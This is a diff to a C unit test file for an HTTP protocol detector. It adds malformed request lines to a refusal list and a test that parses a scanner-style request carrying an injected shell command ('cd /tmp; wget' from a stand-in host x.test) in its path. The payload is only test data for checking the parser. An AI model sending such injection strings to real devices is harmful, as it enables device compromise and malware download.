@@ -78,7 +78,9 @@ static const char *const others[] = {
     "GET / HTTP/1.1x\r\n",
     "GET /\r\n",
     "GET  HTTP/1.1\r\n",
-    "GET /a b HTTP/1.1\r\n",
+    "FETCH /a b HTTP/1.1\r\n",
+    "GET  /a HTTP/1.1\r\n",
+    "GET /a\001b c HTTP/1.1\r\n",
     "GET / HTTP/1.1\n\n",
     "get / HTTP/1.1\r\n",
     "G\001T /",
@@ -103,6 +105,22 @@ START_TEST(neighbours_are_refused)
 {
     ck_assert_int_eq(talk_text(talk, 0, others[_i]), LS_NO);
     ck_assert(talk_blank(talk));
+}
+END_TEST
+
+/* As sent by careless clients, and by scanners for holes. */
+START_TEST(blanks_in_a_target_of_a_known_method_are_part_of_it)
+{
+    const char *text =
+        "GET /shell?cd+/tmp;wget+ http://x.test/arm HTTP/1.1\r\nHost: a.test\r\n\r\n";
+    for (size_t n = 0; n <= strlen(text); n++) {
+        struct talk *one = talk_new(&ls_probe_http);
+        ck_assert_int_eq(talk_say(one, 0, text, n), n < 53 ? LS_MAYBE : LS_YES);
+        talk_free(one);
+    }
+    talk_text(talk, 0, text);
+    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/shell"));
+    ck_assert(talk_has(talk, LS_FACT_HTTP_HOST, "a.test"));
 }
 END_TEST
 
@@ -271,6 +289,7 @@ static Suite *suite(void)
     tcase_add_loop_test(wire, every_truncation_asks_for_more_until_the_start_line_is_whole, 0, 2);
     tcase_add_test(wire, byte_by_byte_gives_what_the_whole_gives);
     tcase_add_loop_test(wire, neighbours_are_refused, 0, (int)(sizeof others / sizeof *others));
+    tcase_add_test(wire, blanks_in_a_target_of_a_known_method_are_part_of_it);
     tcase_add_test(wire, a_start_line_without_end_is_not_waited_for);
     tcase_add_test(wire, a_response_alone_names_the_other_side_client);
     tcase_add_test(wire, an_upload_caught_midway_does_not_hide_its_response);
